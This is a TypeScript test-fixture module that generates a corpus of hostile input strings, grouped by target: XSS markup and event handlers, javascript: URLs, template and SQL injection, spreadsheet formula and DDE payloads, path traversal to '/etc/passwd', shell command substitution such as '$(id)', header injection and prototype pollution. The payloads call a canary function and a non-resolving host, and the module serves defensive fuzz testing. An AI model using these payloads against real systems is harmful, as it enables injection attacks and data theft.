// Strings that a hostile customer, catalogue or endpoint might send, by what they are meant to break. Made here, by rule and by hand; pure data.

/** What a string that ran would call. Tests define it, and it must never be called. */
export const canary = 'ewCanary';
/** Where a string that loaded something would ask. Nobody answers there. */
export const lure = 'https://hostile.invalid';

const call = `${canary}()`;
const char = (...codes: number[]): string => String.fromCodePoint(...codes);
const each = <T>(items: readonly T[], make: (item: T, index: number) => string): string[] => items.map(make);
const cross = (heads: readonly string[], tails: readonly string[], make: (head: string, tail: string) => string): string[] => heads.flatMap((head) => tails.map((tail) => make(head, tail)));

/** Ways out of where a text may stand: plain, an attribute, a comment, a title, a script, a style. */
const exits = ['', '">', "'>", '-->', '</title>', '</textarea>', '</script>', '</style>', ']]>'];
const runs = [
  `<script>${call}</script>`, `<img src=x onerror=${call}>`, `<svg onload=${call}>`, `<body onload=${call}>`, `<input autofocus onfocus=${call}>`, `<details open ontoggle=${call}>x</details>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, `<video><source onerror=${call}></video>`, `<a href="javascript:${call}">x</a>`, `<object data="javascript:${call}"></object>`,
];

const markup = [
  ...cross(exits, runs, (exit, run) => exit + run),
  ...each(['b', 'h1', 'table', 'form', 'button', 'marquee', 'slot', 'template', 'style', 'link', 'meta', 'base', 'plaintext', 'noscript', 'dialog', 'ew-nps-donut'], (tag) => `<${tag}>x</${tag}>`),
  `<IMG SRC=x OnErRoR=${call}>`, `<img/src=x/onerror=${call}>`, `<img src=x\nonerror\n=\n${call}>`, `<<script>${call}//<</script>`, `<scr<script>ipt>${call}</scr</script>ipt>`, `<img src=\`x\`onerror=${call}>`,
  `<img src="${lure}/pixel.png">`, `<link rel=stylesheet href="${lure}/a.css">`, `<script src="${lure}/a.js"></script>`, `<meta http-equiv=refresh content="0;url=${lure}">`, `<base href="${lure}/">`, `<form action="${lure}"><input name=token>`,
  '<!--', '<!-- -->', '--!>', '<![CDATA[', '<!DOCTYPE html>', '<?xml version="1.0"?>', '<?php echo 1 ?>', '</', '<', '>', '&', '<a', '<a href=', '&lt;script&gt;', `&lt;img src=x onerror=${call}&gt;`, '&#60;b&#62;', '&#x3c;b&#x3e;', '&amp;amp;', '&nbsp;', '&NewLine;', '&;', '&#0;', '&#xD800;', '&#99999999;',
];

const handlers = [
  ...each(['click', 'load', 'error', 'focus', 'mouseover', 'animationstart', 'transitionend', 'pointerenter', 'beforetoggle', 'wheel', 'copy', 'scrollend'], (name) => `" on${name}="${call}" x="`),
  ...each(['click', 'load', 'error', 'focus', 'mouseover', 'toggle'], (name) => `' on${name}='${call}`),
  ...each(['onclick', 'style', 'srcdoc', 'formaction', 'is', 'slot', 'part', 'id', 'class', 'autofocus'], (name) => `x ${name}=${call}`),
  `"; ${call}; "`, `'; ${call}; '`, `\\'; ${call}; //`, `\`; ${call}; \``, `); ${call}; (`, `*/${call}/*`, `${call}`, `function(){${call}}()`, `(()=>${call})()`, `import('${lure}/a.js')`, `eval('${call}')`,
];

const foreign = [
  `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><set attributeName=onload to=${call}>`, `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`, `<svg><style>@import '${lure}/a.css'</style></svg>`, `<svg><image href="${lure}/a.png"/></svg>`, `<svg><title><img src=x onerror=${call}></title></svg>`, `<svg/onload=${call}>`, '<svg><desc></svg>',
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`, `<math href="javascript:${call}">x</math>`, `<math><maction actiontype="statusline" xlink:href="javascript:${call}">x</maction></math>`, '<math><annotation-xml encoding="text/html"><b>x</b></annotation-xml></math>',
];

const templates = [
  ...cross(['7*7', call, 'constructor.constructor("return this")()', '__proto__', 'this'], ['{{|}}', '{{{|}}}', '${|}', '#{|}', '<%=|%>', '{%|%}', '[[|]]', '@(|)', '*{|}', '{|}'], (code, marks) => marks.replace('|', code)),
  'lit$', '<!--?lit$123456789$-->', 'lit$123456789$', '?lit$', '<?lit$0$>', '<!---->', '<!--?-->', '$lit$', '{{lit-0}}', '<!--lit-part-->', '<!--/lit-part-->', '<!--lit-node 0-->', 'lit-html', '${html`<b>x</b>`}', '{customer}', '{mission}', '{experience}', '{module}', '{0}', '{{', '}}', '${', '<%', '%>',
];

const schemes = ['javascript', 'JaVaScRiPt', 'vbscript', 'data', 'blob', 'file', 'filesystem', 'about', 'view-source', 'intent'];
const scripts = `javascript:${call}`;
const addresses = [
  ...each(schemes, (scheme) => `${scheme}:${scheme === 'data' ? `text/html,<script>${call}</script>` : call}`),
  ...each(schemes.slice(0, 4), (scheme) => `${scheme}://%0a${call}`),
  ...each([0x00, 0x01, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1f, 0x20, 0x7f, 0xa0, 0xad, 0x200b, 0x2028, 0x3000, 0xfeff], (code) => char(code) + scripts),
  ...each([0x09, 0x0a, 0x0d, 0x00, 0x200b, 0xad], (code) => `java${char(code)}script:${call}`),
  ...each([0x09, 0x0a, 0x0d, 0x20], (code) => `javascript${char(code)}:${call}`),
  `java&#115;cript:${call}`, `javascript&colon;${call}`, `&#106;avascript:${call}`, `javascript&#x3A;${call}`, `java%73cript:${call}`, `javascript%3A${call}`, `\\u006aavascript:${call}`, `${char(0xff4a)}avascript:${call}`, `javascript${char(0xff1a)}${call}`, `feed:${scripts}`, `jar:${scripts}!/`, `url:${scripts}`, `"${scripts}"`,
  `data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+`, `data:image/svg+xml,<svg onload=${call}>`, 'data:,', `//${lure.slice(8)}`, `\\\\${lure.slice(8)}`, `/\\${lure.slice(8)}`, `${lure}@example.com/`, `https:${lure.slice(8)}`, `http://user:pass@${lure.slice(8)}/`, 'mailto:a@b?bcc=c@d', 'tel:112', 'sms:112', 'ws://x', 'wss://x', 'ftp://x', 'https://', 'http:', ':', '//', '?', '#', '?a=b&c=d', '#x', 'https://[::1', 'https://a b/',
];

const invisible = [0x00, 0x01, 0x07, 0x08, 0x0b, 0x0c, 0x1b, 0x7f, 0x80, 0x85, 0x9b, 0xad, 0x34f, 0x61c, 0x180e, 0x200b, 0x200c, 0x200d, 0x2028, 0x2029, 0x2060, 0x2064, 0x3000, 0x3164, 0xfeff, 0xfff9, 0xfffd, 0xfffe, 0xffff, 0xe0001, 0xe0041, 0x1d173];
const directions = [0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069];
const unicode = [
  ...each(invisible, (code) => `in${char(code)}side`),
  ...each(invisible.slice(0, 12), (code) => `${char(code)}before`),
  ...each(directions, (code) => `invoice${char(code)}gnp.exe`),
  ...each(directions.slice(2), (code) => char(code).repeat(20) + 'x'),
  char(0xd800), char(0xdfff), `a${char(0xd83d)}`, `${char(0xde00)}b`, `${char(0xdc00)}${char(0xd800)}`, `${char(0xd83d)}<b>${char(0xde00)}`,
  'مرحبا بالعالم', 'שלום <b>עולם</b>', 'abc مرحبا 123 שלום', 'ﷺ', 'ۀ'.repeat(30), '١٢٣', 'fdsa‮asdf', '中文測試', 'ภาษาไทย', 'नमस्ते', 'İıſK', 'ß'.repeat(40), 'ǅ', 'ﬁ', 'Ａｄｍｉｎ', 'аdmin', '𝕬𝖉𝖒𝖎𝖓',
  `Z${'\u0301\u0323\u0334'.repeat(60)}`, '👨‍👩‍👧‍👦'.repeat(10), '👩🏽‍🚀', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🇩🇪🇦', '☠️', '1️⃣', '👋🏻👋🏿', '\u{1f3f3}\ufe0f\u200d\u26a7\ufe0f', '꧁༺x༻꧂', '𒐫𒈙⸻꧅﷽',
  'x'.repeat(200), 'word '.repeat(60), `${'<b>'.repeat(60)}`, '&'.repeat(200), '['.repeat(200), '\u202e'.repeat(200), '9'.repeat(200), 'W'.repeat(5_000), '<i>'.repeat(2_000), '😀'.repeat(2_500),
  '\r\n', '\n', '\r', '\t', 'a\nb', 'a\r\nb', 'a\tb', ' ', '  two  ', '\u00a0', '-', '–', '.', '0', '-0', 'null', 'undefined', 'NaN', 'Infinity', '1e999', 'true', 'false', '[object Object]',
];

const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\u00a0=', '\u200b=', '\ufeff=', '\u202e=', '\0=', '＝', '＋', '－', '＠', '﹦', '﹢', '⁼', '₌', '"=', "'=", '%3D', ';=', ',='];
const formulas = ['1+1', 'SUM(1,2)', `HYPERLINK("${lure}","x")`];
const sheets = [
  ...cross(signs, formulas, (sign, formula) => sign + formula),
  "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', `=WEBSERVICE("${lure}")`, `=IMPORTXML("${lure}","//a")`, '=1+1\n=2+2', 'a,=1+1', 'a;=1+1', 'a\t=1+1', 'a\n=1+1', '"a",=1+1', '"\r\n=1+1', "'=1+1", '=', '==', '=-1', '+1', '-1', '+49 30 1234', '-', '+', '@', '@name', '"', '""', '"""', "'", ',', ';', '|', '\\"', '",', '","', ';";"', '\x1a', '{=1+1}', '#REF!', '#NAME?', 'R1C1', 'A1', '1/2', '1-2', '00012', '1E5', 'TRUE', '2026-04-01',
];

const programs = [
  "' OR '1'='1", "'; DROP TABLE facts; --", '1; SELECT pg_sleep(9)', '" OR ""="', "') UNION SELECT NULL--", '%27', 'a%', '_', '\\', "\\'", '/*', '--', '0x27', "x' AND 1=1 --", '{"$gt":""}', '$where', '*', '%', '?', '.*', '(a+)+$', '[a-z', '(?=', '\\u0000', '\\x3cscript\\x3e',
  '../../../etc/passwd', '..\\..\\windows', '..', '.', './', '/', '//', '....//', '..%2f..%2f', '%2e%2e/', '..%00', 'a/../b', 'a?b#c', 'CON', 'NUL.txt', 'a:b', 'a|b', 'a*b?', 'name.csv.exe', '.htaccess', ' .csv', '~root', '$HOME', '`id`', '$(id)', '; id', '| id', '&& id', 'a\0.csv', '%00', '%', '%zz', '%c0%af', '%0d%0aSet-Cookie: a=b', '\r\nX-Injected: 1', 'a%20b', '+', '%25', '%E4', '%F0%9F%98%80',
  '%s%s%s%s', '%n', '%d', '%x', '{0}', '%1$s', '%(a)s', '{a.__class__}', '#{7*7}', '$1', '$&', '$`', "$'", '$$', '\\1',
];

const names = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'isPrototypeOf', '__defineGetter__', '__defineSetter__', '__lookupGetter__', 'toJSON', 'then', 'length', 'name', 'call', 'apply', 'bind', 'caller', 'arguments', 'Symbol.iterator', 'get', 'set', 'size', 'map', 'at', 'innerHTML', 'textContent', 'style', 'nodeType', '_$litType$', 'strings', 'unknown', 'other', 'detractors', 'constructor.prototype.polluted', '__proto__.polluted', '__proto__[polluted]'];

const styles = [
  'expression(1)', `url(${lure}/a.png)`, `;background:url(${lure}/a.png)`, `}*{background:url(${lure}/a.png)}`, '</style><b>', '@import', `@import '${lure}/a.css'`, 'red;}', '} :host{display:none}', 'var(--ew-accent)', '--ew-accent:red', 'position:fixed;inset:0', '\\3c b\\3e', '/**/', 'inherit', 'calc(1px*', ':host', '#menu', '.card', '[part=card]', '::part(card)', '"]', '\\', 'a,b', '*', ':not(', 'part1 part2', 'slot="x"',
];

const texts = ['{"a":1}', '[1,2', '"}', '\\"', '\\u', '\\ud800', '\\u0022', '\u2028', '\u2029', '</script', '<\\/script>', '{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}', '\\', '\\\\', '\b\f\v', '"\n"', "'\n'", '//', '/*', '*/', '<![CDATA[x]]>', '<!ENTITY x "y">', '%PDF-1.7', 'GIF89a', '#!/bin/sh', '\x1b[31m', '\x1b]0;x\x07'];

/** By what they are meant to break. */
export const families: Readonly<Record<string, readonly string[]>> = { markup, handlers, foreign, templates, addresses, unicode, sheets, programs, names, styles, texts };

/** Every hostile string, each once. */
export const corpus: readonly string[] = [...new Set(Object.values(families).flat())];

const numbers = new Map<string, string>();

/** Harmless text of about the same length with as many words, equal only for equal text: what a hostile one is held against. */
export function harmless(hostile: string): string {
  const number = numbers.get(hostile) ?? `o${numbers.size.toString(36)}o`;
  numbers.set(hostile, number);
  return number + hostile.replace(/[^\s]/gsu, 'o').replace(/\s/g, ' ').slice(number.length);
}
